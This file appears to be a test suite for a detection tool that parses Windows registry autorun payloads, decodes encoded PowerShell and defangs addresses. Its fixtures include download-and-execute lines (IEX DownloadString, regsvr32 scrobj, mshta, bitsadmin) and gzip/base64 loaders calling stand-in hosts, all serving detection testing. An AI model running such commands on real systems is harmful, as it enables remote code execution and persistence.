import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  commandFacts,
  type PayloadSource,
  readPayload,
  seenRunning,
} from '../../functions/alert/detection/payload/index.ts';
import { compileQuery } from '../../functions/alert/eql/index.ts';
import { readField } from '../../functions/alert/logs/index.ts';
import { pivots } from '../../functions/alert/notification/queries/pivots.ts';
import { inflateStart } from '../../functions/alert/pipeline/inflate-start.ts';
import type { PayloadForm } from '../../functions/alert/ruleset/index.ts';
import { pivotAlert } from '../notification/pivot-fixture.ts';

const KEY = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run';
const read = (
  data: string | readonly string[],
  form: PayloadForm | null = null,
  more: Partial<PayloadSource> = {},
) =>
  readPayload({
    type: 'REG_SZ',
    key: KEY,
    value: 'x',
    data: typeof data === 'string' ? [data] : data,
    form,
    inflate: inflateStart,
    ...more,
  });

/** Program, file that is really run, and export of each command; the one that starts it where it is not Windows. */
const shown = (payload: ReturnType<typeof read>) =>
  payload.commands.map(({ program, file, export: name, startedBy }) =>
    [startedBy === null ? '' : `${startedBy}>`, program, ' ', file, name === null ? '' : `!${name}`].join(''),
  );

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

describe('what Windows runs', () => {
  const rows: readonly (readonly [
    data: string | readonly string[],
    commands: readonly string[],
    form?: PayloadForm,
  ])[] = [
    ['rundll32.exe a.dll, DllMain', ['rundll32.exe a.dll!DllMain']],
    ['rundll32 -sta {00000000-0000} /localserver a.dll,b', ['rundll32.exe a.dll!b']],
    ['rundll32 "C:\\A B\\c.dll",#1 x', ['rundll32.exe C:\\A B\\c.dll!#1']],
    [
      '%windir%\\System32\\rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "',
      ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "'],
    ],
    ['regsvr32 /s /i:http://192.0.2.1/a.sct scrobj.dll', ['regsvr32.exe http://192.0.2.1/a.sct']],
    ['mshta "C:\\x y\\a.hta" 1', ['mshta.exe C:\\x y\\a.hta']],
    ['msiexec /q /i http://192.0.2.1/a.msi', ['msiexec.exe http://192.0.2.1/a.msi']],
    ['msiexec /qn /iC:\\a.msi', ['msiexec.exe C:\\a.msi']],
    ['wscript.exe //B "C:\\x y\\a.vbs" 1', ['wscript.exe C:\\x y\\a.vbs']],
    ['powershell -w hidden -ep bypass -f "C:\\x y\\a.ps1" 1', ['powershell.exe C:\\x y\\a.ps1']],
    ['powershell.exe -nop -c "Get-Date"', ['powershell.exe powershell.exe']],
    [
      'cmd /c "start "" /min "C:\\A B\\c.exe" & echo a| d.bat"',
      ['cmd.exe cmd.exe', '0>c.exe C:\\A B\\c.exe', '0>d.bat d.bat'],
    ],
    [
      'C:\\Windows\\System32\\cmd /d /q /c p^owershell -file a.ps1',
      ['cmd.exe C:\\Windows\\System32\\cmd.exe', '0>powershell.exe a.ps1'],
    ],
    [
      'if exist C:\\a.bat call C:\\a.bat&doskey x=y',
      ['a.bat C:\\a.bat', 'doskey.exe doskey.exe'],
      'cmd-line',
    ],
    ['conhost --headless wscript C:\\a.js', ['conhost.exe conhost.exe', '0>wscript.exe C:\\a.js']],
    ['C:\\Program Files\\A B\\c d.exe /x', ['c d.exe C:\\Program Files\\A B\\c d.exe'], 'service-program'],
    [
      '\\SystemRoot\\System32\\drivers\\x.sys',
      ['x.sys C:\\Windows\\System32\\drivers\\x.sys'],
      'service-program',
    ],
    ['\\??\\C:\\a\\x.sys', ['x.sys C:\\a\\x.sys'], 'service-program'],
    [
      'system32\\svchost.exe -k netsvcs',
      ['svchost.exe C:\\Windows\\system32\\svchost.exe'],
      'service-program',
    ],
    ['%SystemRoot%\\System32\\a.dll', ['a.dll C:\\Windows\\System32\\a.dll'], 'dll'],
    ['"evil.exe",explorer.exe', ['evil.exe evil.exe', 'explorer.exe explorer.exe'], 'shell'],
    ['C:\\a.exe C:\\b.exe,c', ['a.exe C:\\a.exe', 'b.exe C:\\b.exe', 'c.exe c.exe'], 'list'],
    ['C:\\a.dll|Run|1', ['a.dll C:\\a.dll!Run'], 'runonceex'],
    ['||C:\\a.exe b|c', ['a.exe C:\\a.exe'], 'runonceex'],
    [
      ['C:\\a.exe', '', 'C:\\b.exe 1'],
      ['a.exe C:\\a.exe', 'b.exe C:\\b.exe'],
    ],
    ['"C:\\unclosed quote\\a.exe -x', ['a.exe -x C:\\unclosed quote\\a.exe -x']],
    ['just words', [], 'unknown'],
    ['C:\\a.exe', [], 'none'],
    [['', '  '], []],
  ];
  it.each(rows.map(([data, commands, form = null]) => [data, commands, form] as const))(
    '%j: %j',
    (data, commands, form) => expect(shown(read(data, form))).toEqual(commands),
  );

  it('gives every file of an unquoted path in the order Windows tries them', () => {
    const [command] = read('C:\\Program Files\\A B\\c.exe /x').commands;
    expect(command!.candidates).toEqual([
      'C:\\Program.exe',
      'C:\\Program Files\\A.exe',
      'C:\\Program Files\\A B\\c.exe',
    ]);
    expect(command!.isCertain).toBe(false);
  });
  it('keeps what was written beside its meaning, and expands nothing that may differ', () => {
    const [one, two] = read(['%ProgramFiles%\\a.exe', '%APPDATA%\\a.exe']).commands;
    expect([one!.original, one!.path, two!.path]).toEqual([
      '%ProgramFiles%\\a.exe',
      'C:\\Program Files\\a.exe',
      '%APPDATA%\\a.exe',
    ]);
  });
  it.each([
    [
      'Userinit',
      'Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon',
      'C:\\Windows\\system32\\userinit.exe,C:\\a.exe,',
      2,
    ],
    ['1', 'Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001\\Depend', 'C:\\a.dll', 1],
    ['Title', 'Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx', 'Setup', 0],
  ])('reads %s by its place', (value, key, data, count) => {
    expect(read(data, value === 'Userinit' ? 'command' : 'runonceex', { key, value }).commands).toHaveLength(
      count,
    );
  });
  it('runs nothing of a number', () => {
    expect(read('1', 'command', { type: 'REG_DWORD' })).toMatchObject({ isCommand: false, commands: [] });
  });
});

describe('what is encoded', () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.5/n.ps1')";
  it.each(['-e', '-ec', '-EN', '-enc', '/encodedcommand', '\u2013e'])('is decoded behind %s', name => {
    expect(read(`powershell ${name} ${utf16(script)}`).decoded).toMatchObject([
      { kind: 'powershell', encoding: 'utf-16le', depth: 1, text: script },
    ]);
  });
  it('is decoded twice, and no deeper', () => {
    const deep = (text: string) => `x('${btoa(text)}')`;
    const { decoded } = read(deep(deep(deep('Get-Date | Out-Null'))));
    expect(decoded.map(({ depth, encoding }) => [depth, encoding])).toEqual([
      [1, 'utf-8'],
      [2, 'utf-8'],
    ]);
  });
  it.each([
    'C:\\Windows\\System32\\WindowsPowerShell\\v1',
    'd41d8cd98f00b204e9800998ecf8427e',
    '/a/very/long/unix/path/that/is/not/base64',
    'A'.repeat(64),
    btoa('\x00\x01\xfe\xff\x80'.repeat(20)),
    '='.repeat(100),
  ])('is not found in %s', text => expect(read(text).decoded).toEqual([]));
  it('is decoded as far as 64 KiB', () => {
    const { decoded, isPartial } = read([
      utf16('echo hello '.repeat(1_000)),
      btoa('echo hello '.repeat(2_000)),
    ]);
    expect(decoded.length).toBe(2);
    expect([isPartial, decoded.every(({ text }) => text.length <= 65_536)]).toEqual([false, true]);
  });
  const loader = (bytes: Buffer, end = '=') =>
    `powershell -c IEX(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([Convert]::FromBase64String('${bytes.toString('base64').replace(/=+$/, end)}'))))`;
  it.each([
    ['gzip', gzipSync(script)],
    ['zlib', deflateSync(script)],
    ['raw deflate', deflateRawSync(script)],
    ['UTF-16LE in raw deflate', deflateRawSync(Buffer.from(script, 'utf16le'))],
    ['gzip without its end', gzipSync(script).subarray(0, -9)],
  ])('is inflated where it is %s', (_, bytes) => {
    const [layer] = read(loader(bytes)).decoded;
    expect(layer).toMatchObject({ kind: 'base64', depth: 1, isCompressed: true });
    expect(script.startsWith(layer!.text.slice(0, 60))).toBe(true);
  });
  it('is inflated as far as 64 KiB, and in the second layer too', () => {
    const long = gzipSync(`${script}${'#'.repeat(50_000_000)}`);
    expect(long.length).toBeGreaterThan(40_000);
    const { decoded, isPartial } = read([
      `a('${gzipSync(`${script} ${'x y '.repeat(50_000)}`).toString('base64')}')`,
    ]);
    expect([decoded.length, decoded[0]!.isCut, isPartial]).toEqual([1, true, true]);
    expect(decoded[0]!.text.length).toBeLessThanOrEqual(65_536);
    expect(decoded[0]!.text.length).toBeGreaterThan(60_000);
    expect(
      read(`powershell -enc ${utf16(loader(gzipSync(script)))}`).decoded.map(
        ({ isCompressed }) => isCompressed,
      ),
    ).toEqual([false, true]);
    expect(inflateStart(long, 65_536)!.bytes.length).toBeLessThanOrEqual(65_536);
  });
  it.each([
    [
      'random bytes',
      Buffer.from(Array.from({ length: 400 }, (_, at) => (at * 7919 + (at >> 3) * 104_729) & 255)),
    ],
    [
      'compressed random bytes',
      gzipSync(Buffer.from(Array.from({ length: 400 }, (_, at) => (at * at * 31) & 255))),
    ],
    [
      'gzip of which the middle is damaged',
      Buffer.concat([gzipSync(script).subarray(0, 20), Buffer.alloc(40, 0xee)]),
    ],
  ])('is left where it is %s', (_, bytes) => expect(read(loader(bytes)).decoded).toEqual([]));
});

describe('addresses', () => {
  const rows: readonly (readonly [text: string, defanged: readonly string[]])[] = [
    [
      "(New-Object Net.WebClient).DownloadString('http://10.10.10.5/n.ps1')",
      ['hxxp://10[.]10[.]10[.]5/n.ps1'],
    ],
    ['ping evil.example.com, srv.corp.net:8443', ['evil[.]example[.]com', 'srv[.]corp[.]net']],
    ['\\\\192.0.2.4\\share\\a.dll', ['\\\\192[.]0[.]2[.]4\\share\\a[.]dll']],
    ['cscript //B //T:10 //srv/share/a.js', ['//srv/share/a[.]js']],
    ['x [2001:db8::1] 2001:db8::2 ::1', ['2001[:]db8[:][:]1', '2001[:]db8[:][:]2']],
    ['https://[2001:db8::1]:8443/a', ['hxxps://[2001:db8::1]:8443/a']],
    ['nc 192.0.2.9 443 1.2.3 1.2.3.4.5 999.1.1.1', ['192[.]0[.]2[.]9']],
    [
      'C:\\Users\\JOHN~1.GUS\\x.exe System.Net.WebClient wscript.shell a.ps1 run.py lib.so.exe v1.0.2 command.com',
      [],
    ],
    ['bitsadmin /transfer x https://a.example/x.exe %temp%\\x.exe', ['hxxps://a[.]example/x.exe']],
  ];
  it.each(rows)('%s', (text, defanged) =>
    expect(read(text).addresses.map(address => address.defanged)).toEqual(defanged),
  );
});

describe('facts of the command', () => {
  const rows: readonly (readonly [data: string, program: string | null, flags: string])[] = [
    ['C:\\Users\\Public\\up.exe -s', 'C:\\Users\\Public\\up.exe', 'writable'],
    ['"C:\\Users\\ann\\AppData\\Roaming\\a.exe"', 'C:\\Users\\ann\\AppData\\Roaming\\a.exe', 'writable'],
    ['C:\\Program Files\\A B\\x.exe /quiet', null, ''],
    ['C:\\ProgramData\\..\\Windows\\x.exe', 'C:\\ProgramData\\..\\Windows\\x.exe', ''],
    ['\\\\evil\\share\\x.exe', '\\\\evil\\share\\x.exe', 'remote'],
    ['rundll32 \\\\evil@SSL\\dav\\x.dll,A', null, 'remote'],
    ['\\\\?\\C:\\x.exe', null, 'remote'],
    ['//evil/share/x.exe', null, 'remote'],
    ['wscript //B //E:jscript "C:\\Users\\Public\\a.txt" //Nologo', null, 'writable'],
    ['C:\\a.exe --url https://evil.example/a', 'C:\\a.exe', ''],
    ['%TEMP%\\a.exe', null, 'writable'],
  ];
  it.each(rows)('%s: %s (%s)', (data, program, flags) => {
    const facts = commandFacts(read(data), [data]);
    const set = [facts.isRemote && 'remote', facts.isUserWritable && 'writable'].filter(Boolean).join(' ');
    expect([facts.program, set]).toEqual([program, flags]);
  });
});

describe('RAN finds the process as Windows starts it', () => {
  const start = (executable: string, ...args: readonly string[]) => ({
    event: { category: ['process'], type: ['start'] },
    host: { id: '5f1c7d0a-3a52-4b0e-9a53-6e6b0a2f9b11', name: 'FIN-WS-042' },
    '@timestamp': '2026-11-24T03:00:00.000Z',
    process: {
      executable,
      name: executable.slice(executable.lastIndexOf('\\') + 1),
      args: [executable, ...args],
      command_line: `"${executable}" ${args.join(' ')}`,
    },
  });
  const SYSTEM = 'C:\\Windows\\System32\\';
  const code = utf16('Get-Date');
  const rows: readonly (readonly [data: string, process: ReturnType<typeof start>, form?: PayloadForm])[] = [
    ['rundll32.exe a.dll, DllMain', start(`${SYSTEM}rundll32.exe`, 'a.dll,', 'DllMain')],
    [
      '%windir%\\system32\\regsvr32.exe /s %ProgramData%\\x\\a.dll',
      start(`${SYSTEM}regsvr32.exe`, '/s', 'C:\\ProgramData\\x\\a.dll'),
    ],
    ['mshta http://192.0.2.1/a.hta', start(`${SYSTEM}mshta.exe`, 'http://192.0.2.1/a.hta')],
    [
      `powershell -w hidden -enc ${code}`,
      start(`${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`, '-w', 'hidden', '-enc', code),
    ],
    ['cmd.exe /c C:\\T\\a.bat', start(`${SYSTEM}cmd.exe`, '/c', 'C:\\T\\a.bat')],
    ['C:\\T\\a.vbs', start(`${SYSTEM}wscript.exe`, 'C:\\T\\a.vbs')],
    ['C:\\Program Files\\A B\\c.exe /x', start('C:\\Program Files\\A B\\c.exe', '/x')],
    ['explorer.exe,"C:\\T t\\b.exe"', start('C:\\T t\\b.exe'), 'shell'],
    ['msiexec /i C:\\T\\a.msi /q', start(`${SYSTEM}msiexec.exe`, '/i', 'C:\\T\\a.msi', '/q')],
    ['"%LOCALAPPDATA%\\q\\b.exe" -s', start('C:\\Users\\ann\\AppData\\Local\\q\\b.exe', '-s')],
  ];
  it.each(rows.map(([data, process, form = 'command' as const]) => [data, process, form] as const))(
    '%s',
    (data, process, form) => {
      const alert = pivotAlert({ registry: { data: [data] }, location: { payload: form } });
      const text = pivots(alert, 'en').find(
        ({ name, language }) => name === 'did-it-run' && language === 'EQL',
      )?.text;
      const query = compileQuery(text!, { readField });
      expect([text, query.matches(process)]).toEqual([text, true]);
      const other = start(`${SYSTEM}${process.process.name}`, 'C:\\Windows\\other.txt');
      expect([text, process.process.executable.includes('System32') && query.matches(other)]).toEqual([
        text,
        false,
      ]);
    },
  );
});

describe('a hostile payload', () => {
  const long = 1_048_576;
  const texts: readonly string[] = [
    '/'.repeat(long),
    '\\'.repeat(long),
    '"'.repeat(long),
    '" '.repeat(long / 2),
    'a '.repeat(long / 2),
    '%a%'.repeat(long / 3),
    '^&|'.repeat(long / 3),
    'cmd /c '.repeat(5_000),
    'A'.repeat(long),
    `${'-e '.repeat(10_000)}`,
    'http://'.repeat(5_000),
    '1.'.repeat(20_000),
    ':'.repeat(long),
    'if exist a '.repeat(3_000),
    `for ${'a '.repeat(10_000)}`,
    '\ud800'.repeat(10_000),
    'a.com '.repeat(6_000),
    '..\\'.repeat(10_000),
    `rundll32 ${','.repeat(32_000)}`,
    `rundll32 ${'-sta {0} '.repeat(3_500)}a.dll,b`,
    `cmd /c ${'"'.repeat(32_000)}`,
    `C:\\${' x'.repeat(16_000)}.exe`,
    'powershell -e'.repeat(2_500),
  ];
  const forms = [
    'command',
    'cmd-line',
    'shell',
    'list',
    'dll',
    'service-program',
    'runonceex',
    'unknown',
  ] as const;
  it.each(texts.map(text => [text.slice(0, 12), text] as const))(
    'of %j… is read in bounded work and memory',
    (_, text) => {
      for (const form of forms) {
        const payload = read([text, text], form);
        expect(payload.commands.length).toBeLessThanOrEqual(16);
        expect(payload.decoded.length).toBeLessThanOrEqual(4);
        expect(payload.addresses.length).toBeLessThanOrEqual(32);
        expect(JSON.stringify(payload).length).toBeLessThan(16 * 32_767 * 30);
        expect(seenRunning(payload).processes.length).toBeLessThanOrEqual(8);
      }
    },
  );
});
